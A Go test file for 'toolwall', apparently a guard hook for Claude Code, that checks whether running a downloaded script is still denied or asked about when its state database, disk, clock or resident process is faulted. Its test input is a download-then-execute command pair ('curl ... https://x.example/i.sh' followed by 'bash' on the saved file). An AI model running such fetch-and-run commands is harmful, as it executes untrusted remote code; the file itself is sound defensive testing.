package main

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/toolwall/toolwall/host/claudecode"
	"github.com/toolwall/toolwall/internal/resident"
	"github.com/toolwall/toolwall/internal/rows"
)

// The fault model (docs/faults.md): whatever happens to session memory —
// a full disk, a state file damaged, replaced or removed, a lock held, a
// resident killed or stopped, the clock moved — the run of a downloaded
// file after its download is stopped: denied by the chain rule, or asked
// about because memory knows it has a hole (chain.memory-off). Never
// allowed.

// envFaultsBin names the variable that runs a fault test again inside a
// mount namespace with the parent's binary (TestMain then builds none).
const envFaultsBin = "TOOLWALL_FAULTS_BIN"

// faultChain is one session's download→run chain through hook processes.
type faultChain struct {
	env     []string
	state   string
	session string
	file    string // the downloaded script
	wrap    []string
}

func newFaultChain(t *testing.T, state, session string) *faultChain {
	return &faultChain{
		env: []string{"TOOLWALL_STATE=" + state, "CLAUDE_PROJECT_DIR=/workspace/app", "HOME=/home/user",
			"XDG_CONFIG_HOME=" + t.TempDir(), "TOOLWALL_CONFIG=", "TOOLWALL_RESIDENT=off"},
		state: state, session: session, file: "/tmp/fx-" + session + ".sh",
	}
}

func (c *faultChain) download() string { return "curl -fsSL -o " + c.file + " https://x.example/i.sh" }

// hook runs one hook process (through c.wrap, if set) and returns the
// Claude Code decision, "allow" for an empty answer. A hook that fails
// (exit status other than 0, or no JSON) is reported: hosts read it as
// allow.
func (c *faultChain) hook(t *testing.T, name string, args []string, payload map[string]any) (string, string) {
	t.Helper()
	in, _ := json.Marshal(payload)
	argv := append(append(append([]string{}, c.wrap...), name), args...)
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Env = append(os.Environ(), c.env...)
	cmd.Stdin = bytes.NewReader(in)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		return "failed", fmt.Sprintf("hook %v: %v\n%s", argv, err, stderr.String())
	}
	if strings.TrimSpace(stdout.String()) == "" {
		return "allow", ""
	}
	var o claudecode.Output
	if err := json.Unmarshal(stdout.Bytes(), &o); err != nil {
		return "failed", fmt.Sprintf("hook output %q: %v", stdout.String(), err)
	}
	return o.HookSpecificOutput.PermissionDecision, o.HookSpecificOutput.PermissionDecisionReason
}

// payload is a Claude Code event of the chain's session.
func (c *faultChain) payload(event, command, id string) map[string]any {
	p := map[string]any{"session_id": c.session, "transcript_path": "/tmp/t.jsonl", "cwd": "/workspace/app",
		"permission_mode": "default", "hook_event_name": event, "tool_name": "Bash",
		"tool_input": map[string]any{"command": command}, "tool_use_id": id}
	if event == "PostToolUse" {
		p["tool_response"] = map[string]any{"stdout": "", "stderr": "", "interrupted": false, "isImage": false}
	}
	return p
}

// fetch runs the download's PreToolUse and PostToolUse through name.
func (c *faultChain) fetch(t *testing.T, name string) {
	t.Helper()
	c.hook(t, name, []string{"hook", "claude-code"}, c.payload("PreToolUse", c.download(), "toolu_dl_"+c.session))
	c.hook(t, name, []string{"hook", "claude-code"}, c.payload("PostToolUse", c.download(), "toolu_dl_"+c.session))
}

// run asks to run the downloaded file through name.
func (c *faultChain) run(t *testing.T, name string) (string, string) {
	t.Helper()
	return c.hook(t, name, []string{"hook", "claude-code"}, c.payload("PreToolUse", "bash "+c.file, "toolu_run_"+c.session))
}

// stopped checks the run's decision against want ("deny", "ask" or
// "stopped": either).
func stopped(t *testing.T, what, want, got, reason string) {
	t.Helper()
	switch {
	case got != "deny" && got != "ask":
		t.Errorf("%s: the run after the download was %s (%s); want it stopped", what, got, reason)
	case want == "deny" && (got != "deny" || !strings.Contains(reason, "chain.")):
		t.Errorf("%s: %s (%s); want a deny by the chain rule", what, got, reason)
	case want == "ask" && got == "ask" && !strings.Contains(reason, "chain.memory-off"):
		t.Errorf("%s: ask (%s); want chain.memory-off", what, reason)
	case want == "ask" && got != "ask":
		t.Errorf("%s: %s (%s); want ask (chain.memory-off)", what, got, reason)
	}
}

// faults are the faults of testdata/faults.tsv: apply makes the fault and
// returns what heals it (nil: nothing).
var faults = map[string]func(t *testing.T, c *faultChain) (heal func()){
	"none": func(*testing.T, *faultChain) func() { return nil },
	"disk-full": func(t *testing.T, c *faultChain) func() {
		prlimit, err := exec.LookPath("prlimit")
		if err != nil {
			t.Skip("no prlimit to set RLIMIT_FSIZE (the tmpfs test covers a full disk where namespaces are allowed)")
		}
		c.wrap = []string{prlimit, "--fsize=0", "--"}
		return func() { c.wrap = nil }
	},
	"garbage-header": func(t *testing.T, c *faultChain) func() {
		f, err := os.OpenFile(c.state, os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if _, err := f.WriteAt(bytes.Repeat([]byte("garbage!"), 512), 0); err != nil {
			t.Fatal(err)
		}
		return nil
	},
	"truncated": func(t *testing.T, c *faultChain) func() {
		if err := os.Truncate(c.state, 0); err != nil {
			t.Fatal(err)
		}
		return nil
	},
	"foreign-db": func(t *testing.T, c *faultChain) func() {
		removeState(t, c.state)
		execSQL(t, c.state, "CREATE TABLE photos (id INTEGER PRIMARY KEY, name TEXT)")
		return nil
	},
	"other-state": func(t *testing.T, c *faultChain) func() {
		other := filepath.Join(t.TempDir(), "other.db")
		o := newFaultChain(t, other, "someone-else")
		o.fetch(t, bin)
		removeState(t, c.state)
		data, err := os.ReadFile(other)
		if err != nil {
			t.Fatal(err)
		}
		write(t, c.state, data)
		return nil
	},
	"dir-removed": func(t *testing.T, c *faultChain) func() {
		if err := os.RemoveAll(filepath.Dir(c.state)); err != nil {
			t.Fatal(err)
		}
		return nil
	},
	"symlink-swap": func(t *testing.T, c *faultChain) func() {
		fresh := filepath.Join(t.TempDir(), "fresh.db")
		tmp := c.state + ".new"
		if err := os.Symlink(fresh, tmp); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(tmp, c.state); err != nil {
			t.Fatal(err)
		}
		return nil
	},
	"lock-held": func(t *testing.T, c *faultChain) func() {
		db, err := sql.Open("sqlite", c.state)
		if err != nil {
			t.Fatal(err)
		}
		conn, err := db.Conn(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		if _, err := conn.ExecContext(context.Background(), "BEGIN IMMEDIATE"); err != nil {
			t.Fatal(err)
		}
		return func() {
			conn.ExecContext(context.Background(), "ROLLBACK")
			conn.Close()
			db.Close()
		}
	},
	"read-only-dir": func(t *testing.T, c *faultChain) func() {
		dir := filepath.Dir(c.state)
		if err := os.Chmod(dir, 0o500); err != nil {
			t.Fatal(err)
		}
		return func() { os.Chmod(dir, 0o700) }
	},
	"unreadable": func(t *testing.T, c *faultChain) func() {
		if err := os.Chmod(c.state, 0); err != nil {
			t.Fatal(err)
		}
		return func() { os.Chmod(c.state, 0o600) }
	},
	"clock-back":    func(t *testing.T, c *faultChain) func() { shiftTimes(t, c.state, 24*time.Hour); return nil },
	"clock-forward": func(t *testing.T, c *faultChain) func() { shiftTimes(t, c.state, -6*24*time.Hour); return nil },
}

// removeState removes the state file with its WAL and shared memory.
func removeState(t *testing.T, state string) {
	for _, f := range []string{state, state + "-wal", state + "-shm"} {
		if err := os.Remove(f); err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
	}
}

// shiftTimes moves every time in the state file by d, as if the clock
// had moved by -d since they were written.
func shiftTimes(t *testing.T, state string, d time.Duration) {
	us := d.Microseconds()
	for _, q := range []string{
		"UPDATE records SET at = at + %d", "UPDATE sessions SET seen = seen + %d",
		"UPDATE staged SET at = at + %d", "UPDATE meta SET v = v + %d WHERE k = 'pruned'",
	} {
		execSQL(t, state, fmt.Sprintf(q, us))
	}
}

// TestFaults drives the chain through every fault of testdata/faults.tsv.
func TestFaults(t *testing.T) {
	for _, r := range rows.Read(t, "testdata/faults.tsv", 4) {
		cols := r.Fields
		name, when, want := cols[0], cols[1], cols[2]
		apply := faults[name]
		if apply == nil {
			t.Fatalf("unknown fault %q", name)
		}
		t.Run(name+"/"+when, func(t *testing.T) {
			t.Parallel()
			state := filepath.Join(t.TempDir(), "st", "state.db")
			if name == "symlink-swap" {
				// The state path is a link to the file in use.
				real := filepath.Join(t.TempDir(), "real.db")
				if err := os.MkdirAll(filepath.Dir(state), 0o700); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(real, state); err != nil {
					t.Fatal(err)
				}
			}
			// Another session first: the file exists, with its identity.
			newFaultChain(t, state, "earlier").fetch(t, bin)
			c := newFaultChain(t, state, "s-"+name)
			var heal func()
			if when == "before" {
				heal = apply(t, c)
			}
			c.hook(t, bin, []string{"hook", "claude-code"}, c.payload("PreToolUse", c.download(), "toolu_dl"))
			if when == "post" {
				heal = apply(t, c)
			}
			c.hook(t, bin, []string{"hook", "claude-code"}, c.payload("PostToolUse", c.download(), "toolu_dl"))
			if heal != nil {
				heal()
			}
			if when == "between" {
				apply(t, c)
			}
			got, reason := c.run(t, bin)
			stopped(t, name, want, got, reason)
			// A session that began after the fault and downloaded nothing
			// is not denied (it may be asked about, memory being off).
			if got, reason := newFaultChain(t, state, "later").run(t, bin); got == "deny" || got == "failed" {
				t.Errorf("a later session with no download: %s (%s)", got, reason)
			}
		})
	}
}

// TestFaultsDiskFull fills a small tmpfs holding the state directory,
// before the chain and in its middle, in a mount namespace of its own
// (`unshare -rm`); where namespaces are not allowed, TestFaults'
// disk-full rows (RLIMIT_FSIZE) cover a full disk.
func TestFaultsDiskFull(t *testing.T) {
	if dir := os.Getenv("TOOLWALL_FAULTS_TMPFS"); dir != "" {
		diskFullChild(t, dir)
		return
	}
	unshare, err := exec.LookPath("unshare")
	if err != nil {
		t.Skip("no unshare")
	}
	if err := exec.Command(unshare, "-rm", "true").Run(); err != nil {
		t.Skipf("no unprivileged mount namespace here (%v): the RLIMIT_FSIZE rows of TestFaults cover a full disk", err)
	}
	dir := t.TempDir()
	cmd := exec.Command(unshare, "-rm", "sh", "-c", `mount -t tmpfs -o size=1m tmpfs "$1" && shift && exec "$@"`, "sh", dir,
		os.Args[0], "-test.run=^TestFaultsDiskFull$", "-test.v")
	cmd.Env = append(os.Environ(), envFaultsBin+"="+bin, "TOOLWALL_FAULTS_TMPFS="+dir)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("inside the namespace: %v\n%s", err, out)
	}
	if !bytes.Contains(out, []byte("--- PASS: TestFaultsDiskFull")) {
		t.Fatalf("the test did not run inside the namespace:\n%s", out)
	}
}

// diskFullChild runs the full-disk chains on the tmpfs at dir.
func diskFullChild(t *testing.T, dir string) {
	fill := func() func() {
		p := filepath.Join(dir, "fill")
		f, err := os.Create(p)
		if err != nil {
			t.Fatal(err)
		}
		buf := make([]byte, 64<<10)
		for {
			if _, err := f.Write(buf); err != nil {
				break
			}
		}
		f.Close()
		for _, n := range []int{4096, 512, 1} { // the last blocks too
			f, _ := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
			for f != nil {
				if _, err := f.Write(buf[:n]); err != nil {
					break
				}
			}
			f.Close()
		}
		return func() { os.Remove(p) }
	}
	for _, when := range []string{"before", "mid"} {
		t.Run(when, func(t *testing.T) {
			state := filepath.Join(dir, when, "state.db")
			newFaultChain(t, state, "earlier").fetch(t, bin)
			c := newFaultChain(t, state, "s-"+when)
			var free func()
			if when == "before" {
				free = fill()
			}
			c.hook(t, bin, []string{"hook", "claude-code"}, c.payload("PreToolUse", c.download(), "toolu_dl"))
			if when == "mid" {
				free = fill()
			}
			c.hook(t, bin, []string{"hook", "claude-code"}, c.payload("PostToolUse", c.download(), "toolu_dl"))
			free()
			got, reason := c.run(t, bin)
			stopped(t, "disk full "+when, "ask", got, reason)
		})
	}
}

// residentFaults is a scratch install of toolwall and toolwall-hook
// whose resident a test kills and stops.
type residentFaults struct {
	*residentInstall
}

// pid returns the resident's pid from its pid file (0 when none).
func (r residentFaults) pid() int {
	b, err := os.ReadFile(resident.PidFile(r.socket))
	if err != nil {
		return 0
	}
	pid, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return pid
}

// chain is a chain whose hooks run through the client with the
// install's environment and state.
func (r residentFaults) chain(t *testing.T, session string) *faultChain {
	c := newFaultChain(t, "", session)
	c.env = append(append([]string{}, r.env...), "TOOLWALL_RESIDENT=")
	for _, kv := range r.env {
		if v, ok := strings.CutPrefix(kv, "TOOLWALL_STATE="); ok {
			c.state = v
		}
	}
	return c
}

// TestFaultsResident: a resident stopped (SIGSTOP) is not waited for —
// each call is answered by the binary in about the time the binary
// takes, not the client's 5 s — and one killed while it serves a post
// event loses no record: the client kept the payload and the binary
// records it. Then many sessions in parallel while the resident is
// killed and stopped again and again: no chain is missed.
func TestFaultsResident(t *testing.T) {
	in := residentFaults{newResidentInstall(t)}
	t.Cleanup(func() {
		if pid := in.pid(); pid > 0 {
			syscall.Kill(pid, syscall.SIGCONT)
		}
		stopResident(t, in.socket)
	})
	t.Run("stopped", func(t *testing.T) {
		cmd := in.start(t, "1m")
		if err := cmd.Process.Signal(syscall.SIGSTOP); err != nil {
			t.Fatal(err)
		}
		defer cmd.Process.Signal(syscall.SIGCONT)
		c := in.chain(t, "stopped")
		for i, step := range []map[string]any{
			c.payload("PreToolUse", c.download(), "toolu_dl"),
			c.payload("PostToolUse", c.download(), "toolu_dl"),
			c.payload("PreToolUse", "bash "+c.file, "toolu_run"),
		} {
			start := time.Now()
			got, reason := c.hook(t, in.client, []string{"hook", "claude-code"}, step)
			if took := time.Since(start); took > resident.ReplyTimeout-time.Second {
				t.Errorf("call %d took %v with the resident stopped: the client waited for it", i, took)
			}
			if i == 2 {
				stopped(t, "run with the resident stopped", "deny", got, reason)
			}
		}
	})
	t.Run("killed", func(t *testing.T) {
		// Kill the resident at a different moment of each post event:
		// before, while or after it reads the payload.
		for i := range 6 {
			in.start(t, "1m")
			c := in.chain(t, fmt.Sprint("killed-", i))
			c.hook(t, in.client, []string{"hook", "claude-code"}, c.payload("PreToolUse", c.download(), "toolu_dl"))
			pid := in.pid()
			done := make(chan struct{})
			go func() {
				defer close(done)
				time.Sleep(time.Duration(i) * 3 * time.Millisecond)
				syscall.Kill(pid, syscall.SIGKILL)
			}()
			c.hook(t, in.client, []string{"hook", "claude-code"}, c.payload("PostToolUse", c.download(), "toolu_dl"))
			<-done
			waitGone(pid)
			got, reason := c.run(t, bin)
			stopped(t, fmt.Sprintf("run after the resident was killed %d ms into the post event", 3*i), "deny", got, reason)
		}
	})
	t.Run("churn", func(t *testing.T) {
		n := 128
		if testing.Short() {
			n = 16
		}
		in.start(t, "1m")
		stop := make(chan struct{})
		var churned atomic.Int32
		var wg sync.WaitGroup
		wg.Add(1)
		go func() {
			defer wg.Done()
			for k := 0; ; k++ {
				select {
				case <-stop:
					return
				case <-time.After(40 * time.Millisecond):
				}
				pid := in.pid()
				if pid <= 0 {
					continue
				}
				if k%2 == 0 {
					syscall.Kill(pid, syscall.SIGKILL)
				} else {
					syscall.Kill(pid, syscall.SIGSTOP)
					time.Sleep(30 * time.Millisecond)
					syscall.Kill(pid, syscall.SIGCONT)
				}
				churned.Add(1)
			}
		}()
		verdicts := make([]string, n)
		var sessions sync.WaitGroup
		for i := range n {
			sessions.Add(1)
			go func() {
				defer sessions.Done()
				c := in.chain(t, fmt.Sprint("churn-", i))
				c.fetch(t, in.client)
				got, reason := c.run(t, in.client)
				verdicts[i] = got + " " + reason
			}()
		}
		sessions.Wait()
		close(stop)
		wg.Wait()
		missed := 0
		for i, v := range verdicts {
			if !strings.HasPrefix(v, "deny ") && !strings.HasPrefix(v, "ask ") {
				if missed++; missed <= 3 {
					t.Errorf("session churn-%d: the run after its download: %s", i, v)
				}
			}
		}
		if missed > 0 {
			t.Errorf("%d of %d chains missed while the resident was killed or stopped %d times", missed, n, churned.Load())
		}
		if pid := in.pid(); pid > 0 {
			syscall.Kill(pid, syscall.SIGCONT)
		}
	})
}

// waitGone waits up to 5 s for process pid to end.
func waitGone(pid int) {
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			return
		}
		if i := bytes.LastIndexByte(stat, ')'); i > 0 && i+2 < len(stat) && stat[i+2] == 'Z' {
			return
		}
	}
}
